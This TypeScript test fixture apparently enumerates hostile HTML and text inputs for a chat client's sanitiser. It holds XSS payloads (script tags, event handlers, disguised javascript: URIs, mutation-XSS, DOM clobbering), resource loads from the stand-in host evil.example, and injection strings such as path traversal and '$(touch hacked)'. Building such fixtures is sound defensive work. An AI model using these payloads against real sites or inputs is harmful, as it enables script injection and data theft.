/** What a message would run if it could; where it would call if it could. */
export const RUN = 'window.hacked=1'
const EVIL = 'https://evil.example'
const IMG = `<img src=x onerror="${RUN}">`

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<<script>script>${RUN}</script>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<p><script>${RUN}`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${RUN}</html:script>`,
]

const events =
  'abort afterprint animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch beforetoggle blur cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keyup load loadeddata loadstart message mousedown mouseenter mousemove mouseover paste pageshow play playing pointerdown pointerenter pointerover pointerrawupdate popstate progress reset resize scroll scrollend search select selectionchange slotchange start submit suspend timeupdate toggle touchstart transitionend transitionrun unhandledrejection unload volumechange wheel'.split(
    ' ',
  )
const carriers = [
  (on: string) => `<p ${on}>x</p>`,
  (on: string) => `<a href="https://ok.example" ${on} autofocus tabindex=0>x</a>`,
  (on: string) => `<img src=x ${on}>`,
  (on: string) => `<svg ${on}><animate ${on} attributeName=x dur=1s /></svg>`,
  (on: string) => `<details open ${on}><summary ${on}>x</summary></details>`,
  (on: string) => `<video autoplay ${on}><source ${on}></video>`,
  (on: string) => `<input autofocus ${on}>`,
  (on: string) => `<body ${on}>x</body>`,
  (on: string) => `<msft-mention id="8:acs:x" displayText="x" ${on}>@x</msft-mention>`,
  (on: string) => `<table ${on}><tr ${on}><td ${on}>x</td></tr></table>`,
  (on: string) => `<x ${on} contenteditable style="animation:spin 1s">x</x>`,
]
const handlers = events.map((event, at) => carriers[at % carriers.length]?.(`on${event}="${RUN}"`) ?? '')

const schemes = ['javascript', 'data', 'vbscript', 'blob', 'file', 'filesystem', 'ms-msdt', 'search-ms', 'parlance']
const rest = (scheme: string) => (scheme === 'data' ? `text/html,<script>${RUN}</script>` : RUN)
const entities = (text: string, as: (code: number) => string) =>
  Array.from(text, character => as(character.charCodeAt(0))).join('')
const disguises: ((scheme: string) => string)[] = [
  scheme => `${scheme}:${rest(scheme)}`,
  scheme => `${scheme.toUpperCase()}:${rest(scheme)}`,
  scheme => `${entities(scheme, code => `&#${code};`)}:${rest(scheme)}`,
  scheme => `${entities(scheme, code => `&#x${code.toString(16).padStart(6, '0')};`)}&colon;${rest(scheme)}`,
  scheme => `${scheme.slice(0, 2)}&Tab;${scheme.slice(2)}:${rest(scheme)}`,
  scheme => `${scheme.slice(0, 2)}\n${scheme.slice(2)}:${rest(scheme)}`,
  scheme => `&#1;${scheme}:${rest(scheme)}`,
  scheme => `\u00a0 ${scheme}:${rest(scheme)}`,
  scheme => `${scheme.slice(0, 2)}\u200b${scheme.slice(2)}:${rest(scheme)}`,
  scheme => `${scheme}&#58;//%0a${rest(scheme)}`,
  scheme => `https://ok.example" href="${scheme}:${rest(scheme)}`,
]
const addresses = schemes.flatMap(scheme => disguises.map(disguise => disguise(scheme)))
const links = addresses.map((address, at) =>
  at % 4 === 3 ? `<img src="${address}" alt="x">` : `<a href="${address}">x</a>`,
)

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${IMG.replaceAll('"', '')}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style><!--</style>${IMG}--></style></svg>`,
  `<svg><foreignObject><p>${IMG}</p></foreignObject></svg>`,
  `<svg><desc><![CDATA[</desc>${IMG}]]></svg>`,
  `<svg><title><style><img alt="</style></title>${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<noscript><p title="</noscript>${IMG.replaceAll('"', '')}"></noscript>`,
  `<table><caption><svg><title><table><tr><td>${IMG}`,
  `<select><template><style><!--</style>${IMG}--></template></select>`,
  `<a><b><a><b>${IMG}</b></a></b></a><table><a>${IMG}</table>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate href=#a attributeName=href values="javascript:${RUN}" /><a id=a><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onload to="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<div><!--[if gte IE 4]>${IMG}<![endif]--></div>`,
  `<!--${'-'.repeat(50)}!>${IMG}-->`,
  `<p title="\`onmouseover=${RUN} \`">x</p>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `<is is="x-x" is=x>${IMG}</is>`,
  `<slot name=x>${IMG}</slot><div slot=x shadowrootmode=open>x</div>`,
  `<div><template shadowrootmode=open>${IMG}</template></div>`,
]
const rawText =
  'template noscript noembed noframes xmp plaintext textarea title iframe style listing select math svg object frameset script option button marquee dialog'.split(
    ' ',
  )
const nested = rawText.flatMap(name => [
  `<${name}><p title="</${name}>${IMG.replaceAll('"', '')}">x</p></${name}>`,
  `<${name}><!--</${name}>${IMG}--></${name}>`,
])

const loads = [
  `<img src="${EVIL}/a.png">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`,
  `<img loading=eager src=//evil.example/c.png>`,
  `<picture><source srcset="${EVIL}/a.webp"><img src=x></picture>`,
  `<video src="${EVIL}/a.mp4" poster="${EVIL}/p.png" autoplay></video>`,
  `<video><track default src="${EVIL}/a.vtt"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<input type=image src="${EVIL}/a.png">`,
  `<body background="${EVIL}/a.png">x</body>`,
  `<table background="${EVIL}/a.png"><td background="${EVIL}/b.png">x</table>`,
  ...['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'import', 'prerender'].map(
    rel => `<link rel=${rel} as=script href="${EVIL}/${rel}">`,
  ),
  `<style>@import "${EVIL}/a.css"; p{background:url(${EVIL}/b.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)} *{font-family:x}</style>x`,
  `<p style="background:url(${EVIL}/a.png)">x</p>`,
  `<p style="list-style:url(${EVIL}/a.png);cursor:url(${EVIL}/c.cur)">x</p>`,
  `<svg><image href="${EVIL}/a.png"/></svg>`,
  `<svg><use href="${EVIL}/a.svg#x"/></svg>`,
  `<svg><filter><feImage href="${EVIL}/a.png"/></filter></svg>`,
  `<object data="${EVIL}/a.swf"></object>`,
  `<embed src="${EVIL}/a.swf">`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<base href="${EVIL}/"><img src=a.png><a href=b>x</a>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<a href="https://ok.example" ping="${EVIL}/ping">x</a>`,
  `<form action="${EVIL}" id=f><input name=x></form><button form=f type=submit formaction="javascript:${RUN}">x</button>`,
  `<bgsound src="${EVIL}/a.mp3"><applet code="${EVIL}/a.class"></applet>`,
  `<portal src="${EVIL}"></portal><fencedframe></fencedframe>`,
  `<xml src="${EVIL}/a.xml"></xml><math href="${EVIL}">x</math>`,
]

const css = [
  'position:fixed;inset:0;z-index:99999;background:red',
  'position:absolute;top:-9999px;left:-9999px',
  'font-size:9999px',
  'margin:-500px',
  'transform:scale(50)',
  'width:99999px;height:99999px',
  'width:expression(window.hacked=1)',
  'behavior:url(#default#x)',
  '-moz-binding:url(https://evil.example/x.xml#x)',
  'display:none',
  'color:transparent;visibility:hidden',
  'float:left;direction:rtl;unicode-bidi:bidi-override',
].map(style => `<div style="${style}">cover</div><span style='${style}'>cover</span>`)
const classes = ['rail', 'composer', 'screen', 'unseen', 'fui-DialogSurface', 'message', 'log'].map(
  name => `<div class="${name}" data-key="x" aria-hidden=true role=dialog tabindex=0>cover</div>`,
)
const properties =
  'root fake world parlance body head forms cookie location document getElementById createElement querySelector attributes parentNode childNodes nodeName innerHTML firstChild trustedTypes __proto__'.split(
    ' ',
  )
const clobbering = properties.flatMap(name => [
  `<form id="${name}" name="${name}"><input name="${name}"><img name=${name} id=${name}></form>`,
  `<a id="${name}"></a><a id="${name}" name="x" href="https://ok.example">x</a>`,
])

const WORD = 'w'.repeat(3000)
const layout = [
  ...['b', 'div', 'ul><li', 'blockquote', 'table><tr><td', 'span', 'sub', 'sup', 'h1', 'ol><li'].map(
    name => `${`<${name}>`.repeat(400)}deep`,
  ),
  ...['p', 'li', 'td', 'pre', 'code', 'h1', 'blockquote', 'b'].map(name => `<${name}>${WORD}</${name}>`),
  `<a href="https://ok.example/${WORD}">${WORD}</a>`,
  `<img src="https://ok.example/${WORD}" alt="${WORD}">`,
  `<msft-mention id="${WORD}" displayText="${WORD}">@${WORD}</msft-mention>`,
  `<table>${`<tr>${'<td>cell</td>'.repeat(200)}</tr>`.repeat(3)}</table>`,
  `<table><tr><td colspan=1000 rowspan=65534 width=99999 height=99999>x</td></tr></table>`,
  `<pre>${'x '.repeat(2000)}</pre>`,
  `<ol start=999999999 type=I><li value=-99999>x</li></ol>`,
  `<hr width=99999 size=9999>x`,
  `<font size=99 color=red>x</font><big>${'<big>'.repeat(60)}x`,
  `<center><marquee>x</marquee><blink>x</blink></center>`,
]

const mentions = ['"><img src=x onerror=window.hacked=1>', 'javascript:window.hacked=1', '__proto__', ''].map(
  id => `<msft-mention id='${id}' displayText='${id}'><b onclick="${RUN}">@${id}</b></msft-mention>`,
)

/** What somebody could send as HTML, by kind. */
export const hostileHtml = {
  ...{ scripts, handlers, links, mutations, nested, loads, css, classes, clobbering, layout, mentions },
}

const chars = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at))
const unseenMarks = [...chars(0x200b, 0x200f), ...chars(0x202a, 0x202e), ...chars(0x2060, 0x2069), '\ufeff', '\u061c']
const family = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'

/** What somebody could write as words, as a name, a topic or a note. */
export const hostileTexts = [
  ...unseenMarks.map(mark => `abc${mark}def${mark.repeat(20)}`),
  ...unseenMarks.filter((_, at) => at % 5 === 0).map(mark => mark.repeat(500)),
  ...chars(0, 0x1f).map(control => `a${control}b`),
  ...chars(0x7f, 0x9f)
    .filter((_, at) => at % 4 === 0)
    .map(control => `a${control}b`),
  `Z${'\u0301\u0316\u0489'.repeat(300)}algo`,
  'a\u0300'.repeat(500),
  `${'\u20dd'.repeat(60)}circled`,
  '\ud800',
  `\udc00 lone \ud83d`,
  family.repeat(200),
  `\u{1f468}${'\u200d\u{1f469}'.repeat(300)}`,
  `\u{1f3f4}${chars(0xe0061, 0xe007a).join('')}\u{e007f}`,
  '\ufe0f'.repeat(500),
  '\ufdfd'.repeat(80),
  '\u{12031}\ua9c5\u2e3b'.repeat(60),
  '\u0bcd\u0b95'.repeat(300),
  '\u0e49'.repeat(300),
  'שלום <b>עולם</b> \u202eabc',
  'مرحبا'.repeat(300),
  `${'\u202e'.repeat(50)}gnp.exe`,
  'x'.repeat(100_000),
  '\u4e2d'.repeat(5000),
  'a b '.repeat(5000),
  '\n'.repeat(300),
  `top${'\n'.repeat(100)}bottom`,
  '\t'.repeat(300),
  '\u2028line\u2029paragraph',
  `https://ok.example/${'y'.repeat(5000)}`,
  'https://ok.example/?q="onmouseover=alert(1)',
  `javascript:${RUN}`,
  `https://user:pw@evil.example@ok.example/`,
  ...scripts.slice(0, 6),
  IMG,
  '"><svg/onload=window.hacked=1>',
  "'-window.hacked=1-'",
  '</title></style></script><script>window.hacked=1</script>',
  '{{constructor.constructor("window.hacked=1")()}}',
  '${window.hacked=1}',
  '{name}',
  "{count, plural, one {x} other {y}} '{' <b>x</b>",
  '%s %n %x %08x',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\calc.exe',
  'C:\\autoexec.bat',
  '/dev/null',
  '~/.bashrc',
  ...['CON', 'nul.txt', 'COM1', 'LPT9.html', 'aux. ', '. . .', '.', '..', '.hidden', 'trailing. . '],
  '-rf *',
  '$(touch hacked)`touch hacked`',
  'a\0.html',
  'file:///etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  'null',
  ' ',
  '\u00a0\u3000',
]
